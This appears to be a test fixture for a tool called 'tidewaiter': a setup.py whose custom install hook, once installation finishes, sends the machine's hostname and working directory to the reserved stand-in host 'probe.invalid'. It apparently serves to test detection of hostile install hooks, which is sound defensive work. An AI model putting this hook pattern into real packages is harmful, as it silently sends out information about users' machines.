# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import os
import platform
import requests
from setuptools import setup
from setuptools.command.install import install


class Hook(install):
    def run(self):
        install.run(self)
        requests.get("http://probe.invalid/i", params={"n": platform.node(), "c": os.getcwd()})


setup(name="fixture", version="99", cmdclass={"install": Hook})
